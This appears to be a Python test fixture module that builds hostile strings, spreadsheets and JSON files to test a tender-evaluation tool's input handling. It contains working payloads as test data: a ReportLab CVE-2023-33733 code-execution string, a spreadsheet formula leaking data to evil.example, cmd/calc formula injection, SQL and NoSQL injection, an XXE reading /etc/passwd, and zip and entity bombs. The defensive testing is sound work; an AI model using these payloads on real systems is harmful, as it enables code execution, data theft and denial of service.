"""A corpus of hostile files and strings. Files are built on demand (a zip bomb is not committed).

Each builder writes one file into a folder and returns its path; `HOSTILE_STRINGS` are values a
bidder or an evaluator could type into any text field.
"""

from __future__ import annotations

import json
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl

from tests.factory import minimal_doc, seed003_tender_doc

HOSTILE_STRINGS: dict[str, str] = {
    "reportlab font markup": '<font color="red" size="40">WINNER</font>',
    "reportlab img markup": '<img src="/etc/passwd" width="100" height="100"/>',
    "reportlab CVE-2023-33733": (
        "<para><font color=\"[[[getattr(pow, Word('__globals__'))['os'].system('touch /tmp/svdesk-pwned')"
        " for Word in [ orgTypeFun( 'Word', (str,), { 'mutated': 1, 'startswith': lambda self,"
        " x: 1 == 0, '__eq__': lambda self, x: self.mutated and 1 == 1 }) ] ] and 'red'\">x</font></para>"
    ),
    "html entities": "&lt;b&gt; &amp; &#x27; & < > \" '",
    "formula =": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "formula +": "+cmd|' /C calc'!A0",
    "formula -": "-2+3+cmd|' /C calc'!A0",
    "formula @": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula tab": "\t=1+1",
    "formula CR": "\r=1+1",
    "right-to-left": "\u202eSNOITAROBAL\u202c شركة الرعاية المنزلية",
    "emoji": "Care 🏠❤️👩‍⚕️ Ltd",
    "combining marks": "Zoë Łukasz Ó Súilleabháin Z̷a̷l̷g̷o̷",
    "long rationale": "The bid evidences named staff in section 4.2. " * 2150,  # just under 100,000 characters
    "sql": "Robert'); DROP TABLE score;--",
    "newlines": "line one\nline two\r\nline three",
    "backslashes": "C:\\Users\\priya\\..\\..\\evil",
    "zero width": "Weaver\u200bValley\u2060",
}


def _write_zip(path: Path, entries: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> Path:
    with zipfile.ZipFile(path, "w", compression) as zf:
        for name, data in entries.items():
            zf.writestr(name, data)
    return path


def _base_xlsx(path: Path) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["Theme", "Reference", "Question", "Units", "Proxy Value", "Answer", "Pledged Social Value"])
    ws.append(["Jobs", "NT1", "Local FTE", "no. people FTE", 30782, 2, 61564])
    wb.save(path)
    return path


def _rewrite(
    src: Path, dst: Path, edits: dict[str, Callable[[bytes], bytes]], extra: dict[str, bytes] | None = None
) -> Path:
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename in edits:
                data = edits[info.filename](data)
            zout.writestr(info, data)
        for name, data in (extra or {}).items():
            zout.writestr(name, data)
    return dst


def zip_bomb(folder: Path) -> Path:
    base = _base_xlsx(folder / "base.xlsx")
    return _rewrite(base, folder / "zip_bomb.xlsx", {}, {"xl/media/padding.bin": b"\0" * 210_000_000})


def many_entries(folder: Path) -> Path:
    base = _base_xlsx(folder / "base.xlsx")
    return _rewrite(base, folder / "many_entries.xlsx", {}, {f"xl/junk/{i}.xml": b"<a/>" for i in range(2_500)})


def macro_enabled(folder: Path) -> Path:
    base = _base_xlsx(folder / "base.xlsx")
    return _rewrite(base, folder / "macros.xlsx", {}, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 500})


def encrypted(folder: Path) -> Path:
    path = folder / "encrypted.xlsx"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096)
    return path


def external_link(folder: Path) -> Path:
    base = _base_xlsx(folder / "base.xlsx")
    link = (
        b'<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
        b"/></externalLink>"
    )
    return _rewrite(base, folder / "external.xlsx", {}, {"xl/externalLinks/externalLink1.xml": link})


def xml_entity_bomb(folder: Path) -> Path:
    base = _base_xlsx(folder / "base.xlsx")
    ents = b'<!ENTITY lol "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 2 else b"&lol;") * 10) for n in range(2, 10)
    )

    def bomb(data: bytes) -> bytes:
        body = data.split(b"?>", 1)[-1]
        return b'<?xml version="1.0"?><!DOCTYPE worksheet [' + ents + b"]>" + body.replace(b"NT1", b"&lol9;")

    return _rewrite(base, folder / "billion_laughs.xlsx", {"xl/worksheets/sheet1.xml": bomb})


def external_entity(folder: Path) -> Path:
    base = _base_xlsx(folder / "base.xlsx")

    def xxe(data: bytes) -> bytes:
        body = data.split(b"?>", 1)[-1]
        return b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + body.replace(
            b"NT1", b"&xxe;"
        )

    return _rewrite(base, folder / "xxe.xlsx", {"xl/worksheets/sheet1.xml": xxe})


def truncated_zip(folder: Path) -> Path:
    base = _base_xlsx(folder / "base.xlsx")
    path = folder / "truncated.xlsx"
    path.write_bytes(base.read_bytes()[:900])
    return path


def not_a_workbook(folder: Path) -> Path:
    return _write_zip(folder / "plain.xlsx", {"readme.txt": b"hello"})


def csv_named_xlsx(folder: Path) -> Path:
    path = folder / "renamed.xlsx"
    path.write_text("Reference,Answer\nNT1,3\n", encoding="utf-8")
    return path


def empty_file(folder: Path) -> Path:
    path = folder / "empty.xlsx"
    path.write_bytes(b"")
    return path


def _sheet_with(folder: Path, name: str, answer: object, question: object = "Local FTE") -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["Theme", "Reference", "Question", "Units", "Proxy Value", "Answer", "Pledged Social Value"])
    ws.append(["Jobs", "NT1", question, "no. people FTE", 30782, answer, None])
    path = folder / name
    wb.save(path)
    return path


def huge_cell(folder: Path) -> Path:
    # openpyxl truncates long strings when it writes, so the XML is edited directly
    base = _sheet_with(folder, "huge_base.xlsx", 2, question="HUGE")
    return _rewrite(
        base, folder / "huge_cell.xlsx", {"xl/worksheets/sheet1.xml": lambda data: data.replace(b"HUGE", b"x" * 40_000)}
    )


def nan_answer(folder: Path) -> Path:
    return _sheet_with(folder, "nan.xlsx", "NaN")


def inf_answer(folder: Path) -> Path:
    # openpyxl will not write inf, so the cell's XML is edited directly
    base = _sheet_with(folder, "inf_base.xlsx", 424242)
    return _rewrite(
        base, folder / "inf.xlsx", {"xl/worksheets/sheet1.xml": lambda data: data.replace(b"424242", b"INF")}
    )


def absurd_answer(folder: Path) -> Path:
    return _sheet_with(folder, "absurd.xlsx", 5_000_000)  # 5 million local FTE on one contract


def formula_answer(folder: Path) -> Path:
    return _sheet_with(folder, "formula.xlsx", "=1/0")


HOSTILE_XLSX: dict[str, Callable[[Path], Path]] = {
    "zip bomb": zip_bomb,
    "too many parts": many_entries,
    "macro-enabled": macro_enabled,
    "encrypted": encrypted,
    "external link": external_link,
    "XML entity bomb": xml_entity_bomb,
    "external entity (XXE)": external_entity,
    "truncated zip": truncated_zip,
    "zip but not a workbook": not_a_workbook,
    "csv renamed .xlsx": csv_named_xlsx,
    "empty file": empty_file,
    "cell over 32,767 characters": huge_cell,
    "NaN answer": nan_answer,
    "infinite answer": inf_answer,
    "absurd quantity for the unit": absurd_answer,
    "formula answer": formula_answer,
}


def deeply_nested_json(folder: Path) -> Path:
    path = folder / "nested.json"
    path.write_text("[" * 200_000 + "]" * 200_000, encoding="utf-8")
    return path


def huge_array_json(folder: Path) -> Path:
    doc = minimal_doc()
    doc["scores"] = [
        {"evaluator": "Tom", "bidder": "Acme Roads", "question": "Q1", "score": 3, "rationale": "x"}
    ] * 200_000
    path = folder / "huge.json"
    path.write_text(json.dumps(doc), encoding="utf-8")
    return path


def wrong_types_json(folder: Path) -> Path:
    doc = minimal_doc()
    doc["tender"]["weights"] = [40, 50, 10]
    doc["bidders"] = {"name": "x"}
    doc["scores"][0]["score"] = {"$gt": 1}
    path = folder / "types.json"
    path.write_text(json.dumps(doc), encoding="utf-8")
    return path


def over_long_rationale_json(folder: Path) -> Path:
    doc = minimal_doc()
    doc["scores"][0]["rationale"] = "x" * 100_001
    path = folder / "long.json"
    path.write_text(json.dumps(doc), encoding="utf-8")
    return path


def nan_json(folder: Path) -> Path:
    path = folder / "nan.json"
    path.write_text(json.dumps(minimal_doc()).replace('"price": 700000', '"price": NaN'), encoding="utf-8")
    return path


def binary_json(folder: Path) -> Path:
    path = folder / "binary.json"
    path.write_bytes(b"\xff\xfe\x00\x01" * 1000)
    return path


HOSTILE_JSON: dict[str, Callable[[Path], Path]] = {
    "deeply nested": deeply_nested_json,
    "200,000 duplicate scores": huge_array_json,
    "wrong types": wrong_types_json,
    "rationale over 100,000 characters": over_long_rationale_json,
    "NaN literal": nan_json,
    "binary garbage": binary_json,
}


def doc_with_string(value: str) -> dict:
    """A valid evaluation with a hostile string in every free-text field a user controls."""
    doc = minimal_doc()
    doc["tender"]["title"] = value[:500]
    doc["bidders"][0]["name"] = value[:300].strip() or "x"
    old = "Acme Roads"
    for section in ("scores", "moderated", "adjustments"):
        for entry in doc[section]:
            if entry["bidder"] == old:
                entry["bidder"] = doc["bidders"][0]["name"]
    doc["scores"][0]["rationale"] = value
    doc["moderated"][0]["rationale"] = value
    doc["questions"][0]["text"] = value
    return doc


def pledge_doc() -> dict:
    return seed003_tender_doc()
